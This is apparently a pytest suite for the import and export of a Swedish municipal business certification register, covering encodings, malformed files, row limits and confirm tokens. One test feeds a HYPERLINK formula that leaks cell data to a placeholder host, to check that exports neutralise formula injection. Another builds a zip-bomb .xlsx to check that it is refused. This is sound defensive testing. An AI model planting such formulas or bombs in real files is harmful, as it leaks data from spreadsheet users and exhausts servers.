"""Import of the certification register: preview, confirm, idempotence, each encoding and
separator, .xlsx, and every kind of bad file; export in CSV and .xlsx that reads back."""

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from brott.extensions import db
from brott.models import Role
from brott.models.certification import Business

from .conftest import logged_in
from .swedish import sv

NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
URL = "/r/borlange/certifiering/import"
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def client(app, frozen, council, coordinator, make_place, monkeypatch, tmp_path):
    # previews wait in a temporary folder, never the instance folder
    monkeypatch.setitem(app.config, "REGISTER_IMPORT_DIR", str(tmp_path))
    make_place(council, "Torget")
    return logged_in(app, coordinator)


def upload(client, content: bytes, filename: str = "register.csv"):
    # encoded here: the test client would spool a large body to a file it never closes
    boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(content), filename)})
    return client.post(URL, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def token_of(page: str) -> str:
    marker = 'name="token" value="'
    assert marker in page, "no confirm button"
    return page.split(marker, 1)[1].split('"', 1)[0]


def businesses() -> list[Business]:
    db.session.expire_all()
    return list(db.session.scalars(db.select(Business).order_by(Business.name)))


SEMICOLON_UTF8 = (
    "Namn;Organisationsnummer;Enhet;Plats;Erbjudande skickat;E-post\r\n"
    "Bageriet Åkerö;5560360793;;Torget;2026-01-15;info@bageri.se\r\n"
    "Guldsmed Östlund;556703-7485;;;;\r\n"
).encode()


def test_a_semicolon_bom_file_is_written_only_on_confirm_and_again_changes_nothing(
    client,
):
    page = upload(client, BOM + SEMICOLON_UTF8).get_data(as_text=True)
    assert "Bageriet Åkerö" in page and "Guldsmed Östlund" in page
    assert businesses() == []  # nothing before confirm
    response = client.post(f"{URL}/bekrafta", data={"token": token_of(page)})
    assert response.status_code == 302
    found = businesses()
    assert [(b.name, b.orgnr) for b in found] == [
        ("Bageriet Åkerö", "556036-0793"),
        ("Guldsmed Östlund", "556703-7485"),
    ]
    assert found[0].offer_sent_on == date(2026, 1, 15) and found[0].place is not None
    again = upload(client, BOM + SEMICOLON_UTF8)
    page = again.get_data(as_text=True)
    assert 'name="token"' not in page
    assert "2" in page and len(businesses()) == 2
    # the token was spent: confirming twice imports nothing more
    assert client.post(f"{URL}/bekrafta", data={"token": "x" * 32}).status_code == 400


def test_a_windows_1252_comma_file_with_swedish_letters_and_a_change(client):
    first = "Namn,Organisationsnummer\r\nBageriet Åkerö,5560360793\r\n".encode("cp1252")
    client.post(
        f"{URL}/bekrafta", data={"token": token_of(upload(client, first).get_data(as_text=True))}
    )
    changed = "namn,ORGNR,Bransch\r\nBageriet Åkerö Ää,556036-0793,Livsmedel\r\n".encode("cp1252")
    page = upload(client, changed).get_data(as_text=True)
    assert "Bageriet Åkerö Ää" in page
    client.post(f"{URL}/bekrafta", data={"token": token_of(page)})
    (business,) = businesses()
    assert (business.name, business.industry) == ("Bageriet Åkerö Ää", "Livsmedel")


def test_an_xlsx_built_with_openpyxl_is_read_with_dates_and_numbers(client):
    book = Workbook()
    sheet = book.active
    sheet.append(["Name", "Organisation number", "Offer sent", "Unit"])
    sheet.append(["Kiosken", 5560360793, datetime(2026, 2, 1), "Torget"])
    out = io.BytesIO()
    book.save(out)
    page = upload(client, out.getvalue(), "lista.xlsx").get_data(as_text=True)
    client.post(f"{URL}/bekrafta", data={"token": token_of(page)})
    (business,) = businesses()
    assert (business.orgnr, business.unit, business.offer_sent_on) == (
        "556036-0793",
        "Torget",
        date(2026, 2, 1),
    )


@pytest.mark.parametrize(
    ("content", "filename", "expected"),
    [
        (b"", "tom.csv", "Filen är tom"),
        (b"Namn;Adress\r\nKiosken;Gatan 1\r\n", "a.csv", "den saknar: Organisationsnummer."),
        (b"Organisationsnummer\r\n", "a.csv", "den saknar: Namn."),
        (b"Namn;Orgnr\r\n", "a.csv", "inga rader"),
        (b'Namn;Orgnr\r\n"Kiosken;5560360793\r\n', "a.csv", "citattecknen"),
        (b"this is not a workbook", "lista.xlsx", ".xlsx"),
        (b"\xd0\xcf\x11\xe0", "gammal.xls", ".xlsx"),
        (b"Namn;Orgnr\r\n\x81\x8d;5560360793\r\n", "a.csv", "tecken"),
    ],
)
def test_a_bad_file_gets_a_message_and_nothing_is_written(client, content, filename, expected):
    response = upload(client, content, filename)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert expected in page
    assert 'name="token"' not in page and businesses() == []


def test_row_errors_name_their_lines_and_nothing_can_be_imported(client):
    content = (
        "Namn;Orgnr;Erbjudande skickat;Plats;E-post\n"
        "Rätt AB;5560360793;;;\n"
        ";5567037485;;;\n"
        "Fel siffra;5560360794;;;\n"
        "Fel datum;5567037485;15/1/2026;;\n"
        "Okänd plats;5567037485;;Månen;\n"
        "Dubblett;556036-0793;;;\n"
        "För många;5567037485;;;a@b.se;extra\n"
    ).encode()
    page = upload(client, content).get_data(as_text=True)
    for line in (3, 4, 5, 6, 7, 8):
        assert f"{line}:" in page or f"Line {line}" in page or f"Rad {line}" in page
    assert "YYYY-MM-DD" in page and "Månen" in page
    assert 'name="token"' not in page and businesses() == []


def test_a_file_over_the_row_limit_is_refused(client):
    rows = b"".join(b"Butik %d;5560360793\n" % n for n in range(50_000))
    response = upload(client, b"Namn;Orgnr\n" + rows)
    assert response.status_code == 400 and "5000" in response.get_data(as_text=True)


def test_a_token_is_bound_to_its_user(app, client, council, make_user):
    page = upload(client, BOM + SEMICOLON_UTF8).get_data(as_text=True)
    other = logged_in(app, make_user(Role.ADMIN, council))
    assert other.post(f"{URL}/bekrafta", data={"token": token_of(page)}).status_code == 400
    assert businesses() == []


def test_the_export_reads_back_as_unchanged_in_csv_and_xlsx(client):
    client.post(
        f"{URL}/bekrafta",
        data={"token": token_of(upload(client, SEMICOLON_UTF8).get_data(as_text=True))},
    )
    csv_bytes = client.get("/r/borlange/certifiering/export.csv").data
    assert csv_bytes.startswith(BOM) and b";" in csv_bytes.splitlines()[0]
    page = upload(client, csv_bytes).get_data(as_text=True)
    assert 'name="token"' not in page and "form-errors" not in page
    xlsx = client.get("/r/borlange/certifiering/export.xlsx").data
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet.max_row == 3
    page = upload(client, xlsx, "export.xlsx").get_data(as_text=True)
    assert 'name="token"' not in page and "form-errors" not in page


FORMULA_NAME = '=HYPERLINK("http://x/?"&A1)'


def test_formulas_are_exported_as_text_and_read_back_unchanged(client, tmp_path):
    content = (
        b"Namn;Orgnr;Telefon;Bransch;Kontaktperson\r\n"
        b'"=HYPERLINK(""http://x/?""&A1)";5560360793;+46 70 123 45 67;-5;@Anna\r\n'
        b"'=redan skyddad;5567037485;-46;'-x;\r\n"
    )
    page = upload(client, content).get_data(as_text=True)
    client.post(f"{URL}/bekrafta", data={"token": token_of(page)})
    assert list(tmp_path.glob("*.json")) == []  # the preview waited here and was taken
    stored = {b.orgnr: b for b in businesses()}
    first, second = stored["556036-0793"], stored["556703-7485"]
    assert (first.name, first.phone, first.industry, first.contact_name) == (
        FORMULA_NAME,
        "+46 70 123 45 67",
        "-5",
        "@Anna",
    )
    # the one "'" before a formula is taken off, as after an export
    assert (second.name, second.phone, second.industry) == ("=redan skyddad", "-46", "-x")

    csv_text = client.get("/r/borlange/certifiering/export.csv").data.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://x/?""&A1)"' in csv_text
    assert ";'+46 70 123 45 67;'-5;" in csv_text and ";'@Anna;" in csv_text
    assert "\n=" not in csv_text and ";=" not in csv_text and ";+" not in csv_text
    page = upload(client, csv_text.encode("utf-8-sig")).get_data(as_text=True)
    assert 'name="token"' not in page and "form-errors" not in page

    xlsx = client.get("/r/borlange/certifiering/export.xlsx").data
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + FORMULA_NAME in [cell.value for cell in cells]
    page = upload(client, xlsx, "export.xlsx").get_data(as_text=True)
    assert 'name="token"' not in page and "form-errors" not in page
    assert [(b.name, b.phone) for b in businesses()] == [(b.name, b.phone) for b in stored.values()]


def xlsx_of(*rows, extra: tuple[str, bytes] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    if extra is not None:
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(*extra)
    return out.getvalue()


def test_an_xlsx_that_unpacks_to_too_much_is_refused(app, client):
    bomb = xlsx_of(
        ["Namn", "Orgnr"], ["Kiosken", "5560360793"], extra=("xl/x.bin", bytes(51 << 20))
    )
    assert len(bomb) < 1024 * 1024
    response = upload(client, bomb, "lista.xlsx")
    expected = sv(
        app,
        "The Excel file unpacks to more than %(limit)d MB. "
        "Save it as CSV or split it into smaller files.",
        limit=50,
    )
    assert response.status_code == 400 and expected in response.get_data(as_text=True)
    assert businesses() == []


def test_an_xlsx_with_a_long_cell_or_far_too_many_empty_rows_is_refused(app, client):
    long_cell = xlsx_of(["Namn", "Orgnr"], ["Kiosken", "5560360793"], ["x" * 1001, "5567037485"])
    response = upload(client, long_cell, "lista.xlsx")
    expected = sv(
        app, "Line %(line)d has a cell of more than %(limit)d characters.", line=3, limit=1000
    )
    assert response.status_code == 400 and expected in response.get_data(as_text=True)

    book = Workbook()
    sheet = book.active
    sheet.append(["Namn", "Orgnr"])
    sheet.append(["Kiosken", "5560360793"])
    sheet.cell(row=7000, column=1, value="Sist")  # 6997 empty rows between
    out = io.BytesIO()
    book.save(out)
    response = upload(client, out.getvalue(), "lista.xlsx")
    assert response.status_code == 400 and "5000" in response.get_data(as_text=True)

    # 900 empty rows are fine, and columns far to the right are not read
    book = Workbook()
    sheet = book.active
    sheet.append(["Namn", "Orgnr"])
    sheet.append(["Kiosken", "5560360793"])
    sheet.cell(row=900, column=1, value="Sist AB")
    sheet.cell(row=900, column=2, value="5567037485")
    sheet.cell(row=2, column=500, value="långt bort")
    out = io.BytesIO()
    book.save(out)
    page = upload(client, out.getvalue(), "lista.xlsx").get_data(as_text=True)
    assert "Sist AB" in page and 'name="token"' in page


def test_a_value_longer_than_its_column_is_a_row_error(app, client):
    content = (
        "Namn;Orgnr;Telefon;Bransch\n"
        f"{'N' * 121};5560360793;;\n"
        f"Kiosken;5567037485;{'1' * 41};{'B' * 80}\n"
        f"Rätt AB;5569999999;{'1' * 40};\n"
    ).encode()
    response = upload(client, content)
    page = response.get_data(as_text=True)
    assert f"Namn: {sv(app, 'At most %(limit)d characters.', limit=120)}" in page
    assert f"Telefon: {sv(app, 'At most %(limit)d characters.', limit=40)}" in page
    assert "Bransch: " not in page  # 80 characters fit
    assert 'name="token"' not in page and businesses() == []
